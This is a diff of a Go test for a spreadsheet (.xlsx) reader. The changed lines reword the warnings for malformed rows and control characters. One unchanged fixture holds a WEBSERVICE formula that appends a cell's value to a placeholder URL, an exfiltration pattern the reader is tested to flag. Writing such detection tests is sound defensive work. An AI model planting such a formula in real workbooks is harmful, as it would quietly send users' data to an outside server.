@@ -85,8 +85,8 @@ func TestTroubleWithSheets(t *testing.T) {
 		"a formula that calls out": {with(data(row(1, "a", "b"), `<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://x/"&amp;B2)</f><v>y</v></c></row>`)), []string{"t.xlsx, strony!A2: the formula reaches outside this file; the result stored in it was taken"}},
 		"a link to another file":   {with(data(row(1, "a", "b"), `<row r="2"><c r="B2"><f>[1]Arkusz1!A1*2</f><v>4</v></c></row>`)), []string{"t.xlsx, strony!B2: the formula reaches outside this file; the result stored in it was taken"}},
 		"a formula of a table":     {with(data(row(1, "a", "b"), `<row r="2"><c r="B2"><f>SUM(Tabela1[kwota])</f><v>4</v></c></row>`)), []string{}},
-		"a value beside the table": {with(data(row(1, "a", "b"), row(2, "1", "2", "", "uwaga"))), []string{`t.xlsx, sheet strony, row 2: " | uwaga": malformed row: 4 cells, 2 columns`}},
-		"a control character":      {with(data(row(1, "a", "b"), row(2, "1", "x_x0001_"))), []string{`t.xlsx, strony!B2: "x\x01": not text in UTF-8: control character 0x01`}},
+		"a value beside the table": {with(data(row(1, "a", "b"), row(2, "1", "2", "", "uwaga"))), []string{`t.xlsx, sheet strony, row 2: " | uwaga": not as many cells as columns (cells and columns: 4, 2)`}},
+		"a control character":      {with(data(row(1, "a", "b"), row(2, "1", "x_x0001_"))), []string{`t.xlsx, strony!B2: "x\x01": a control character (0x01), which no text has; remove it`}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			if diff := cmp.Diff(c.want, said(ReadBook("t.xlsx", zipOf(t, c.parts)))); diff != "" {
